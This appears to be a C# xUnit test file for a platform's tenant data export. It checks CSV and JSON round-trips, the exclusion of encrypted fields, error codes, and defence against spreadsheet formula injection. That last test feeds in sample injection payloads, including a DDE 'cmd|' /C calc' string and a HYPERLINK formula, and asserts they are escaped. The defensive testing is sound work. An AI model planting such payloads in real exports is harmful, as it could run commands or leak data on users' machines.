using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Platform.Metadata.Model;
using Platform.Metadata.Values;
using Platform.Runtime.Backup;
using Platform.Runtime.Tests.Publishing;
using Platform.Runtime.Tests.Writing;
using Platform.Runtime.Writing.Layouts;
using Platform.Testing;
using Xunit;

namespace Platform.Runtime.Tests.Backup;

public sealed class ExportTests(PostgresServer server)
{
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Every_value_of_every_type_can_be_read_back_from_an_export(bool json)
    {
        await using Installation source = await Installation.CreateAsync(server);
        PublishedTenant tenant = await source.AddTenantAsync("one");
        Dictionary<Guid, (string Field, string Edge)> written = [];
        foreach ((string field, string[] edges) in FieldValueTests.Edges)
        {
            Guid[] ids = await source.WriteAsync(tenant.Id, "Sample", [.. edges.Select(e => WritingWorld.Input((field, JsonDocument.Parse(e).RootElement)))]);
            for (int i = 0; i < ids.Length; i++) written.Add(ids[i], (field, edges[i]));
        }

        string file = source.PathOf("export.zip");
        await Exporter(source).WriteAsync(file, tenant.Id, new ExportOptions(json, ["Sample"], WithEncrypted: true), CancellationToken.None);
        RecordLayout layout = RecordLayout.Of((await source.Models.GetAsync(tenant.Id, CancellationToken.None))!.Model.Object("Sample"));
        Dictionary<Guid, Dictionary<string, object?>> read = json ? ReadJson(file, layout) : ReadCsv(file, layout);

        Assert.Equal(written.Keys.Order(), read.Keys.Order());
        foreach ((Guid id, (string field, string edge)) in written)
        {
            object? expected = layout[field].Codec.ReadInput(JsonDocument.Parse(edge).RootElement).Value;
            Assert.True(layout[field].Codec.AreEqual(expected, read[id][field]), $"{field}: {edge} became {read[id][field]}");
        }
    }

    [Fact]
    public async Task Links_and_references_are_written_and_encrypted_fields_are_not_unless_asked_for()
    {
        await using Installation source = await Installation.CreateAsync(server);
        PublishedTenant tenant = await source.AddTenantAsync("one");
        Guid campaign = Assert.Single(await source.WriteAsync(tenant.Id, "Campaign", WritingWorld.Input(("name", "C, \"D\""))));
        Guid account = Assert.Single(await source.WriteAsync(tenant.Id, "Account", WritingWorld.Input(
            ("name", "A"), ("secret", "秘密"), ("campaigns", WritingWorld.Input(("set", new List<object?> { campaign.ToString() }))))));
        await source.WriteAsync(tenant.Id, "Chore", WritingWorld.Input(("name", "T"), ("subject", WritingWorld.Input(("object", "Account"), ("id", account.ToString())))));

        string file = source.PathOf("export.zip");
        IReadOnlyDictionary<string, long> rows = await Exporter(source).WriteAsync(file, tenant.Id, new ExportOptions(false, [], false), CancellationToken.None);
        Assert.Equal((1L, 1L, 0L), (rows["Account"], rows["Chore"], rows["Contact"]));
        using ZipArchive archive = ZipFile.OpenRead(file);
        Assert.Contains("\"C, \"\"D\"\"\"", Text(archive, "Campaign.csv"), StringComparison.Ordinal);
        Assert.Contains(campaign.ToString(), Text(archive, "Account.csv"), StringComparison.Ordinal);
        Assert.DoesNotContain("秘密", Text(archive, "Account.csv"), StringComparison.Ordinal);
        Assert.DoesNotContain("secret", Text(archive, "Account.csv"), StringComparison.Ordinal);
        Assert.Contains($"Account:{account}", Text(archive, "Chore.csv"), StringComparison.Ordinal);
        Assert.Equal("EXPORT_OBJECT_UNKNOWN", (await Assert.ThrowsAsync<BackupException>(
            () => Exporter(source).WriteAsync(source.PathOf("b.zip"), tenant.Id, new ExportOptions(false, ["Nothing"], false), CancellationToken.None))).Code);
        Assert.Equal("BACKUP_EXISTS", (await Assert.ThrowsAsync<BackupException>(
            () => Exporter(source).WriteAsync(file, tenant.Id, new ExportOptions(false, [], false), CancellationToken.None))).Code);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x\"&A2)", "\"'=HYPERLINK(\"\"http://x\"\"&A2)\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("+86 138-0000 (1)", "+86 138-0000 (1)")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("a=b", "a=b")]
    public async Task No_text_is_a_formula_to_a_spreadsheet(string text, string cell)
    {
        await using Installation source = await Installation.CreateAsync(server);
        PublishedTenant tenant = await source.AddTenantAsync("one");
        await source.WriteAsync(tenant.Id, "Campaign", WritingWorld.Input(("name", text)));
        string csv = source.PathOf("csv.zip"), json = source.PathOf("json.zip");
        await Exporter(source).WriteAsync(csv, tenant.Id, new ExportOptions(false, ["Campaign"], false), CancellationToken.None);
        await Exporter(source).WriteAsync(json, tenant.Id, new ExportOptions(true, ["Campaign"], false), CancellationToken.None);
        using ZipArchive cells = ZipFile.OpenRead(csv), values = ZipFile.OpenRead(json);
        Assert.Contains($",{cell}", Text(cells, "Campaign.csv"), StringComparison.Ordinal);
        Assert.Contains(JsonSerializer.Serialize(text, Readable), Text(values, values.Entries.Single(e => e.Name.StartsWith("Campaign", StringComparison.Ordinal)).Name), StringComparison.Ordinal);
    }

    private static readonly JsonSerializerOptions Readable = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static TenantExport Exporter(Installation source) => new(source.DataSource, source.Models, source.Cipher);

    private static Dictionary<Guid, Dictionary<string, object?>> ReadCsv(string file, RecordLayout layout)
    {
        using ZipArchive archive = ZipFile.OpenRead(file);
        List<string[]> lines = [.. Parse(Text(archive, "Sample.csv"))];
        string[] header = lines[0];
        return lines.Skip(1).ToDictionary(
            line => Guid.Parse(line[Array.IndexOf(header, SystemFields.Id)]),
            line => header.Zip(line).ToDictionary(cell => cell.First, cell => layout[cell.First].Codec.ReadText(cell.Second, ImportFormat.Default).Value));
    }

    /// <summary>RFC 4180.</summary>
    private static IEnumerable<string[]> Parse(string text)
    {
        List<string> line = [];
        StringBuilder cell = new();
        bool quoted = false;
        for (int i = 0; i < text.Length; i++)
        {
            char c = text[i];
            if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"') cell.Append(text[++i]);
            else if (c == '"') quoted = !quoted;
            else if (quoted || c is not (',' or '\r' or '\n')) cell.Append(c);
            else if (c != '\r')
            {
                line.Add(cell.ToString());
                cell.Clear();
                if (c == ',') continue;
                yield return [.. line];
                line.Clear();
            }
        }
    }

    private static Dictionary<Guid, Dictionary<string, object?>> ReadJson(string file, RecordLayout layout)
    {
        using ZipArchive archive = ZipFile.OpenRead(file);
        return Text(archive, "Sample.jsonl").Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement).ToDictionary(
            row => row.GetProperty(SystemFields.Id).GetGuid(),
            row => row.EnumerateObject().ToDictionary(p => p.Name, p => layout[p.Name].Codec.ReadInput(p.Value).Value));
    }

    private static string Text(ZipArchive archive, string name)
    {
        using StreamReader reader = new(archive.GetEntry(name)!.Open(), Encoding.UTF8);
        return reader.ReadToEnd();
    }
}
